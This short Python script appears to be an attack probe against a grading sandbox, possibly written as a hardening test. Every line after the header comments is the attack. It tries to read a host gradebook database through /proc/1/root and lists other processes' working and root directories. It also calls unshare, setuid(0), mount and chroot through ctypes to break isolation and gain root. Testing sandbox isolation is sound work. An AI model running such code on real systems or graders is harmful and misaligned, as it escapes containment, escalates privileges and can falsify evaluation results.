# answer: sigmoid
# base: blank
# attack: the host through /proc/1/root and /proc/*/cwd, and syscalls through ctypes (unshare, mount, setuid)
import ctypes, glob, os
for path in ("/proc/1/root/__CLASS_DIR__/gradebook.db", *glob.glob("/proc/*/cwd"), *glob.glob("/proc/*/root")):
    try:
        print(path, os.listdir(path)[:20] if os.path.isdir(path) else open(path, "rb").read(100))
    except OSError as err:
        print(path, type(err).__name__, err)
libc = ctypes.CDLL(None, use_errno=True)
for call, args in (("unshare", (0x10000000,)), ("setuid", (0,)),
                   ("mount", (b"none", b"/tmp", b"tmpfs", 0, None)), ("chroot", (b"/proc/1/root",))):
    result = getattr(libc, call)(*args)
    print(call, result, os.strerror(ctypes.get_errno()))
